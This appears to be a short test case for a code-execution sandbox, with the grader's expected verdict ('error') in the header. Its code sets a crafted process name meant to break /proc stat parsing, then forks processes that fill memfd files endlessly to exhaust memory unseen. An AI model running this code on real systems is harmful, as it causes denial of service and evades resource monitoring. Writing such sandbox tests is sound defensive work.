# Fills memory files, which count for no process, from many processes under a name that is no text.
# exercise: workers
# verdict: error
# says: Your code asked the system for something that is not allowed here

import ctypes
import os


def answer(x):
    ctypes.CDLL(None).prctl(15, b"\xff) R 0 0\n", 0, 0, 0)
    for _ in range(4):
        if os.fork() == 0:
            break
    while True:
        os.write(os.memfd_create("more"), b"x" * 2**18)
